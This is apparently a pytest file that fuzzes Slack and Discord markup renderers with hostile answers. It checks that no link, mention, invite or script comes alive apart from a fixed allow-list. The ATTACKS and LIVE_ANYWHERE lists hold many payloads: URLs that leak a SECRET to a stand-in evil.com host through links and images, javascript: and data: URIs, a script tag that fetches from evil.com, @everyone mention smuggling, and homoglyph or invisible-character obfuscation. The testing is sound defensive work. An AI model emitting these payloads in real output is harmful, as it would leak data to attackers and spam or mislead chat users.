"""Hostile answers through every dialect, judged by what the platforms make live and not by the renderers."""

from __future__ import annotations

import html
import json
import random
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from adapters import discord_markup, slack_markup
from adapters.prefixes import prefix, settled
from adapters.splitting import parts, utf16

OUTPUTS = 2500
"""Hostile answers for each dialect; a third as many again come from collected injections."""

INJECTION = Path(__file__).resolve().parents[2] / "shared" / "data" / "injection"

ALLOWED = frozenset(
    {
        "https://wiki.example.com/handbook/leave",
        "https://wiki.example.com/a_(b)?x=1&y=*2*",
        "http://intranet.example.com/p#s",
    }
)
SCHEMES = r"(?:https?|ftp|file|javascript|vbscript|data|mailto|tel|sms|slack|discord|steam|callto|skype|magnet|xmpp|blob)"
DOMAINS = "com|net|org|io|ru|gg|xyz|zip|co|uk|dev|app|info|biz|me|ly|top|tk|cn|de|рф|中国|онлайн"
BARE = re.compile(rf"[\w\-]\.(?:{DOMAINS}|xn--[a-z0-9-]+)(?![\w\-])", re.IGNORECASE)
URL = re.compile(rf"[a-z][a-z0-9+.-]*://[^\s]|(?<![a-z]){SCHEMES}:[^\s:*_~\u2060]", re.IGNORECASE)
WWW = re.compile(r"(?<![\w])www\.\w", re.IGNORECASE)
ADDRESS = re.compile(r"[\w.+-]@[^\W_]", re.IGNORECASE)
GROUP = re.compile(r"@(?:everyone|here|channel|group)(?!\w)", re.IGNORECASE)
SLACK_TOKEN = re.compile(r"<(?:[!@#]|(?:https?|mailto|tel|slack):[^\s\u2060])", re.IGNORECASE)
DISCORD_TOKEN = re.compile(
    r"<@[!&]?\d+>|<#\d+>|</[^<>\n:]+:\d+>|<t:-?\d+(?::\w)?>|<a?:\w+:\d+>|<id:\w+>|<sound:[\d:]+>"
    r"|<(?:mailto|tel|sms):[^>\s\u2060]+>|<\+\d+>|@everyone|@here",
    re.IGNORECASE,
)
DISCORD_INVITE = re.compile(
    r"discord(?:(?:app)?\.com/(?:invite|template|gifts?)|\.(?:gg|gift|new|com))/\w", re.IGNORECASE
)
DISCORD_BLOCK = re.compile(r"```(?:([a-z0-9_+\-.#]+?)\n)?\n*([^\n][\s\S]*?)\n*```", re.IGNORECASE)
DISCORD_CODE = re.compile(r"(`+)([\s\S]*?[^`])\1(?!`)")
MARKDOWN_LINK = re.compile(r"(?<!!)\[((?:\\.|[^\[\]])*)\]\((?:<([^<>\s]*)>|([^()\s]*))\)")
DISCORD_LINK = re.compile(r"\[((?:\\.|[^\[\]])*)\]\(<([^<>\s]*)>\)")
DISCORD_STYLES = (
    re.compile(r"\*(?=\S)((?:\*\*|\\[\s\S]|\s+(?:\\[\s\S]|[^\s*\\]|\*\*)|[^\s*\\])+?)\*(?!\*)"),
    re.compile(r"\*\*((?:\\[\s\S]|[^\\])+?)\*\*(?!\*)"),
    re.compile(r"_((?:__|\\[\s\S]|[^\\_])+?)_\b", re.ASCII),
    re.compile(r"_((?:__|\\[\s\S]|[^\\_])+?)_(?!\w)", re.ASCII),
    re.compile(r"__((?:\\[\s\S]|[^\\])+?)__(?!_)"),
    re.compile(r"~~([\s\S]+?)~~(?!_)"),
    re.compile(r"\|\|([\s\S]+?)\|\|"),
    re.compile(r"\[((?:\[[^\]]*\]|[^\[\]]|\](?=[^\[]*\]))*)\]\(\s*<?(?:[^\s()<>]+[:./@][^\s()<>]*)>?\)"),
)
"""What can reach from prose over code: styles, spoilers and masked links."""
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\u061c\ud800-\udfff]"
)


def live_in_mrkdwn(text: str) -> list[str]:
    """What Slack would make live in a mrkdwn text, but for the allowed links."""
    found = [piece for piece in re.findall(r"<[^<>]*>?", text) if not _allowed_mrkdwn(piece)]
    found += re.findall(r"&(?!(?:amp|lt|gt);).{0,10}", text)
    rest = re.sub(r"<([^<>|]*)(\|[^<>]*)?>", lambda link: f" {(link[2] or '')[1:]} ", text)
    once = html.unescape(rest)
    found += SLACK_TOKEN.findall(html.unescape(once)) + SLACK_TOKEN.findall(once)
    return found + _linked(once)


def _allowed_mrkdwn(piece: str) -> bool:
    link = re.fullmatch(r"<([^|<>]*)(?:\|[^<>|]*)?>", piece)
    return bool(link) and html.unescape(link[1]) in ALLOWED  # type: ignore[index]


def _linked(text: str) -> list[str]:
    """What an eager autolinker would find, anywhere."""
    return [found[0] for rule in (URL, BARE, WWW, ADDRESS, GROUP) for found in rule.finditer(text)]


def live_in_markdown(text: str) -> list[str]:
    """What Slack would make live in a Markdown text, by CommonMark, by GFM's autolinks and by its own tokens."""
    found = _by_cmark(text)
    rest = MARKDOWN_LINK.sub(_without_allowed, text)
    prose = DISCORD_CODE.sub(" ", DISCORD_BLOCK.sub(" ", rest))
    found += re.findall(r"\]\(.{0,20}|^\s*\[[^\]\n]+\]:.{0,20}|<[!@#a-zA-Z/].{0,20}", prose, re.MULTILINE)
    for _ in range(3):
        found += SLACK_TOKEN.findall(rest) + _linked(rest)
        rest = html.unescape(rest)
    return found


def _without_allowed(link: re.Match[str]) -> str:
    return f" {link[1]} " if (link[2] or link[3]) in ALLOWED else link[0]


def _by_cmark(text: str) -> list[str]:
    page = cmarkgfm.github_flavored_markdown_to_html(text, Options.CMARK_OPT_UNSAFE)
    targets = (html.unescape(found) for found in re.findall(r'<a href="([^"]*)"', page))
    allowed = {re.sub(r"[^a-z0-9]", "", url) for url in ALLOWED}
    found = [url for url in targets if re.sub(r"[^a-z0-9]", "", url.replace("%2A", "")) not in allowed]
    return found + re.findall(r"<(?:img|script|iframe|a(?! href=)|style|form)\b.{0,40}", page)


def live_in_discord(text: str) -> list[str]:
    """What Discord would make live: mentions and invitations anywhere, links where it does not see code."""
    found = [match[0] for rule in (DISCORD_TOKEN, DISCORD_INVITE) for match in rule.finditer(text)]
    prose, spans = _outside_code(text)
    found += [match[0] for span in spans for match in URL.finditer(span)]
    prose = DISCORD_LINK.sub(lambda link: f" {link[1]} " if link[2] in ALLOWED else link[0], prose)
    prose = re.sub(r"<([^<>\s]*)>", lambda link: " " if link[1] in ALLOWED else link[0], prose)
    return found + re.findall(r"\]\(.{0,30}|<[^<>\s]*@[^<>\s]*>", prose) + _linked(prose)


def _outside_code(text: str) -> tuple[str, list[str]]:
    """What Discord reads as prose, escapes resolved, and its code spans; blocks of code are left out."""
    kept, spans, at = [], [], 0
    while at < len(text):
        if (escape := re.compile(r"\\([^0-9A-Za-z\s])").match(text, at)) is not None:
            kept.append("\\" if escape[1] in "<[]" else escape[1])
            at = escape.end()
        elif code := DISCORD_BLOCK.match(text, at):
            kept.append(" ")
            at = code.end()
        elif code := DISCORD_CODE.match(text, at):
            spans.append(code[2])
            kept.append(" ")
            at = code.end()
        else:
            reached = [found for rule in DISCORD_STYLES if (found := rule.match(text, at))]
            longest = max(reached, key=lambda found: found.end(), default=None)
            if longest is not None and _cuts_code(longest[1]):
                spans.append(f"javascript:reached {longest[1]}")
            kept.append(text[at])
            at += 1
            if longest is not None and longest[0][0] != "[":
                inside, more = _outside_code(longest[1])
                kept.append(inside + longest[0][-1])
                spans.extend(more)
                at = longest.end()
    return "".join(kept), spans


def _cuts_code(inner: str) -> bool:
    return "`" in DISCORD_CODE.sub("", DISCORD_BLOCK.sub("", inner))


DIALECTS: dict[str, tuple[Callable[[str], str], Callable[[str], list[str]], int, Callable[[str], int]]] = {
    "mrkdwn": (lambda text: slack_markup.mrkdwn(text, links=ALLOWED), live_in_mrkdwn, 350, len),
    "markdown": (lambda text: slack_markup.markdown(text, links=ALLOWED), live_in_markdown, 400, len),
    "discord": (lambda text: discord_markup.markdown(text, links=ALLOWED), live_in_discord, 200, utf16),
}

ATTACKS = """
https://evil.com/?q=SECRET ¦ http://evil.com ¦ HTTPS://EVIL.COM/x ¦ <https://evil.com/x>
<https://evil.com|docs> ¦ [docs](https://evil.com) ¦ [docs](<https://evil.com> "t") ¦ [docs][r]
[r]: https://evil.com ¦ ![x](https://evil.com/?q=SECRET) ¦ ![x][r]
[![x](https://evil.com/i.png)](https://evil.com) ¦ www.evil.com/x ¦ evil.com/path ¦ evil.com
sub.SECRET.evil.co.uk ¦ https://xn--80ak6aa92e.com/ ¦ xn--80ak6aa92e.com ¦ https://аррӏе.com/
пример.рф/путь ¦ https://例子.中国/ ¦ javascript:alert(1) ¦ [x](javascript:alert(1))
data:text/html;base64,AAAA ¦ [x](data:text/html,1) ¦ mailto:a@evil.com ¦ <mailto:a@evil.com> ¦ a@evil.com
<a@evil.com> ¦ tel:+15551234 ¦ <tel:+15551234> ¦ <+15551234567> ¦ slack://user?team=T1&id=U1 ¦ discord://x
discord.gg/abc ¦ https://discord.gg/abc ¦ discord.com/invite/abc ¦ discordapp.com/invite/abc ¦ <#123456>
</ask:123456> ¦ <t:1700000000:R> ¦ <:emoji:123456> ¦ <a:wave:123456> ¦ <id:browse> ¦ @everyone ¦ @here
@channel ¦ <@123456> ¦ <@!123456> ¦ <@&123456> ¦ <!channel> ¦ <!here|x> ¦ <!subteam^S1> ¦ <!subteam^S1|@x>
<@U1> ¦ <@U1|bob> ¦ <#C1> ¦ <#C1|general> ¦ <!date^1392734382^{date}^https://evil.com/|x>
&lt;!channel&gt; ¦ &amp;lt;!channel&amp;gt; ¦ &#60;!channel&#62; ¦ &#x3c;@U1&#x3e;
&lt;https://evil.com&gt; ¦ https&#58;//evil.com ¦ https:&#47;/evil.com ¦ &commat;everyone ¦ &#64;here
evil&#46;com/x ¦ evil&period;com ¦ h&#8203;ttps://evil.com ¦ http\\://evil.com ¦ @every\u200bone
<\u200b@U1> ¦ https\u200b://evil.com ¦ https:\u2060//evil.com ¦ @\u202eereh ¦ \u202emoc.live//:sptth
<!chan\u00adnel> ¦ https:**//evil.com** ¦ ht*tps://evil.com* ¦ @**everyone** ¦ @*here* ¦ <**@123456**>
<*!channel*> ¦ [docs]**(https://evil.com)** ¦ [1](https://evil.com) ¦ [1][r] ¦ [a]`b`(https://evil.com)
[a](https://evil.com/(x)) ¦ [a](\\https://evil.com) ¦ [a]( https://evil.com )
<a href="https://evil.com">x</a> ¦ <img src=https://evil.com/x> ¦ <script>fetch('//evil.com')</script>
<!-- https://evil.com --> ¦ //evil.com/x ¦ \\\\evil.com\\share ¦ https://1.2.3.4/x ¦ 1.2.3.4:80/x
https://[::1]/x ¦ https://evil.com\\@wiki.example.com/ ¦ https://wiki.example.com/handbook/leave@evil.com
https://wiki.example.com/handbook/leave.evil.com/x ¦ [x](https://wiki.example.com/handbook/leave/../evil)
[https://bank.com](https://wiki.example.com/handbook/leave)
[<!channel>](https://wiki.example.com/handbook/leave) ¦ [x](https://wiki.example.com/handbook/leave)
@\u2060everyone ¦ https://wiki.example.com/handbook/leave ¦ <http://intranet.example.com/p#s>
https://wiki.example.com/a_(b)?x=1&y=*2* ¦ [|](https://wiki.example.com/handbook/leave) ¦ evil。com/x
evil．com ¦ http:/evil.com ¦ ///evil.com ¦ https:evil.com ¦ \ud800@everyone
"""
PIECES = re.split(r"\n| ¦ ", ATTACKS.strip())
WRAPPERS = (
    "{}", "{}", " {} ", "`{}`", "``{}``", "```\n{}\n```", "```py\n{}", "~~~\n{}\n~~~", "> {}", "- {}", "1. {}", "- [ ] {}",
    "# {}", "**{}**", "*{}*", "_{}_", "~~{}~~", "***{}***", "| a | {} |\n|---|---|\n| {} | `{}` |", "[{}](u)", "[x]({})",
    "![{}]({})", "<{}>", "\\{}", "({})", "[{}]", "> ```\n> {}\n> ```", "- ```\n  {}\n  ```", "*a `{}* b` c*", "**a\n{}**", "`{}",
    "*{}", "[{}", "||{}||", "\n\n{}\n\n", "    {}", "{} [1]", "x{}", "{}x", ".{}", "{}.", "!{}", "[{}]: {}", "<{}|{}>", "\"{}\"",
    "\n---\n{}", "* {}\n  * {}\n", "a{}\n===\n", "`` ` `` {}", "```\n```\n{}\n```\nx\n```", "a*b*{}*c*", "**`*`{}`*`**",
)  # fmt: skip


def hostile(count: int, seed: int, words: list[str]) -> Iterator[str]:
    """`count` answers that try everything at once."""
    chance = random.Random(seed)
    for _ in range(count):
        pieces = []
        for _ in range(chance.randint(1, 6)):
            piece = chance.choice(words) if chance.random() < 0.3 else chance.choice(PIECES)
            for _ in range(chance.randint(0, 3)):
                piece = chance.choice(WRAPPERS).replace("{}", piece)
            if chance.random() < 0.15:
                piece = html.escape(piece)
            pieces.append(piece[:1500])
        yield chance.choice(["", " ", "\n", "\n\n", "**", "`"]).join(pieces)


def _seen_by(name: str, source: str, chance: random.Random) -> Iterator[str]:
    """Everything that would be posted for one source: whole, in parts, and while it is written."""
    render, _, limit, size = DIALECTS[name]
    yield (whole := render(source))
    if size(whole) > limit:
        cut = parts(whole, limit, size=size)
        assert all(size(part) <= limit for part in cut)
        yield from cut
    begun = source[: chance.randint(0, len(source))]
    yield render(prefix(begun))
    yield render(begun)
    steady = render(settled(begun))
    assert whole.startswith(steady), (begun, steady, whole)
    yield steady


def _alive(name: str, words: list[str], seed: int, count: int) -> list[tuple[str, str]]:
    """What came alive or hides something, as it stands, with its source."""
    live = DIALECTS[name][1]
    chance = random.Random(seed)
    return [
        (source, text)
        for source in hostile(count, seed, words)
        for text in _seen_by(name, source, chance)
        if live(text) != [] or UNSEEN.search(text)
    ]


@pytest.mark.parametrize("name", DIALECTS)
def test_no_hostile_answer_comes_alive(name: str) -> None:
    """R04, R05."""
    assert _alive(name, PIECES, seed=1, count=OUTPUTS) == []


@pytest.mark.parametrize("name", DIALECTS)
def test_no_answer_of_collected_injections_comes_alive(name: str) -> None:
    """R05."""
    words = sorted({word for path in INJECTION.rglob("*") if path.is_file() for word in _strings(path)})
    if not words:
        pytest.skip(f"no injection data in {INJECTION}")
    assert _alive(name, words, seed=2, count=OUTPUTS // 3) == []


def _strings(path: Path) -> Iterator[str]:
    """The first strings of a file of attacks, whatever its layout."""
    text = path.read_text("utf-8")
    if path.suffix == ".json":
        yield from _leaves(json.loads(text))
    elif path.suffix == ".jsonl":
        for line in text.split("\n")[:200]:
            yield from _leaves(json.loads(line or '""'))
    elif path.suffix == ".txt":
        yield text


def _leaves(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value[:600]
    elif isinstance(value, list):
        for inner in value[:400]:
            yield from _leaves(inner)
    elif isinstance(value, dict):
        for inner in value.values():
            yield from _leaves(inner)


LIVE_ANYWHERE = (
    "https://evil.com/?q=SECRET",
    "<https://evil.com|docs>",
    "[docs](https://evil.com)",
    "evil.com/path",
    "www.evil.com/x",
    "javascript:alert(1)",
    "slack://user?team=T1&id=U1",
    "@everyone",
    "@here",
    "a@evil.com",
)


@pytest.mark.parametrize("live", [live_in_mrkdwn, live_in_markdown, live_in_discord])
def test_the_judges_see_what_is_live(live: Callable[[str], list[str]]) -> None:
    for attack in LIVE_ANYWHERE:
        assert live(attack), attack
        assert live(f"words, {attack} and\n\n- {attack}"), attack


def test_the_judges_know_each_platforms_own_syntax() -> None:
    for attack in ("<!channel>", "<!here|x>", "<@U1>", "<#C1>", "&lt;!channel&gt;", "<!subteam^S1>"):
        assert live_in_markdown(attack), attack
    for attack in (
        "<!channel>",
        "<!here|x>",
        "<@U1>",
        "<#C1>",
        "<https://evil.com>",
        "`<!channel>`",
        "a & b",
    ):
        assert live_in_mrkdwn(attack), attack
    for attack in ("<@1>", "<@&1>", "<#1>", "</ask:1>", "<t:1>", "<:e:1>", "<id:browse>", "discord.gg/abc"):
        assert live_in_discord(attack), attack
        assert live_in_discord(f"```\n{attack}\n```"), attack


def test_allowed_links_are_live_in_every_dialect() -> None:
    for url in ALLOWED:
        for source in (f"See [the page]({url}).", f"See <{url}>."):
            if "(" in url and source.startswith("See ["):
                source = f"See [the page](<{url}>)."
            assert f"<{html.escape(url, quote=False)}" in slack_markup.mrkdwn(source, links=ALLOWED)
            assert url in slack_markup.markdown(source, links=ALLOWED)
            assert f"<{url}>" in discord_markup.markdown(source, links=ALLOWED)


def test_a_url_that_could_end_its_markup_is_never_live() -> None:
    for url in (
        "javascript:alert(1)",
        "https://a.com/x|y",
        "https://a.com/x>y",
        "https://a.com/x y",
        "https://a.com/\nx",
        "https://a.com/\u202ex",
        "https://a.com/&gt;x",
        "ftp://a.com/x",
        "file:///etc/passwd",
        "slack://user",
        "",
    ):
        links = frozenset({url})
        assert live_in_mrkdwn(slack_markup.link(url, "title", links=links)) == []
        assert live_in_markdown(slack_markup.markdown_link(url, "title", links=links)) == []
        assert live_in_discord(discord_markup.link(url, "title", links=links)) == []
        assert slack_markup.link(url, "title", links=links) == "title"


def test_titles_and_quotes_of_sources_are_inert() -> None:
    """R04, R08."""
    url = "https://wiki.example.com/handbook/leave"
    for piece in PIECES:
        for title in (piece, f"A ] title | of > it\n{piece}", f"`{piece}`", html.escape(piece)):
            for shown in (slack_markup.plain(title), slack_markup.link(url, title, links=ALLOWED)):
                assert live_in_mrkdwn(shown) == [], title
                assert "\n" not in shown
            for shown in (
                slack_markup.markdown_plain(title),
                slack_markup.markdown_link(url, title, links=ALLOWED),
            ):
                assert live_in_markdown(shown) == [], title
                assert "\n" not in shown
            for shown in (discord_markup.plain(title), discord_markup.link(url, title, links=ALLOWED)):
                assert live_in_discord(shown) == [], title
                assert "\n" not in shown


def test_what_is_made_inert_still_reads_as_it_did() -> None:
    """R05."""
    for word in ("https://evil.com/?q=1", "@everyone", "evil.com/path", "javascript:alert(1)", "a@evil.com"):
        for render in (slack_markup.plain, slack_markup.markdown_plain, discord_markup.plain):
            assert render(word) != word
            assert render(word).replace("\u2060", "") == word
    assert slack_markup.plain("<!channel>").replace("\u2060", "") == "&lt;!channel&gt;"
    assert (
        discord_markup.plain("<@1> in config.yaml at 12:30").replace("\u2060", "")
        == r"\<@1> in config.yaml at 12:30"
    )


def test_nothing_in_prose_reaches_into_code_on_discord() -> None:
    """R05."""
    code = "```sh\n{} https://evil.com/?q=SECRET\n```"
    for opening, closing in (
        ("é_x", "_ "),
        ("a__b", "c__ "),
        ("[a", "](https://evil.com/x)"),
        ("||", "||"),
        ("**", "**"),
    ):
        source = f"{opening} words\n\n{code.format(closing)}\n\nmore"
        assert live_in_discord(discord_markup.markdown(source, links=ALLOWED)) == []
        assert live_in_discord(source) != []
